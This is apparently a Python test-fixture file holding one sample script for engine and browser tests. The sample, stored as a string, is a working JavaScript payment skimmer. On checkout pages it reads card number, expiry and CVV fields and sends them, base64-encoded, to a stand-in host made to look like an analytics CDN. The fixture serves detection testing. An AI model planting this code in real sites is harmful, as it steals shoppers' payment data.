"""Sample scripts shared by engine and browser tests (data, never executed outside a test browser)."""

SKIMMER = (
    "(function () {\n"
    "  function grab() {\n"
    "    var data = {\n"
    "      number: document.querySelector('[name=\"payment[cc_number]\"]').value,\n"
    "      exp: document.getElementById('cc_exp_month').value,\n"
    "      cvv: document.getElementById('cc_cid').value\n"
    "    };\n"
    "    var x = new XMLHttpRequest();\n"
    "    x.open('POST', 'https://cdn-analytics.example.net/gate.php', true);\n"
    "    x.send(btoa(JSON.stringify(data)));\n"
    "  }\n"
    "  document.addEventListener('click', function (e) {\n"
    "    if (location.href.indexOf('checkout') > -1) { grab(); }\n"
    "  });\n"
    "})();\n"
)
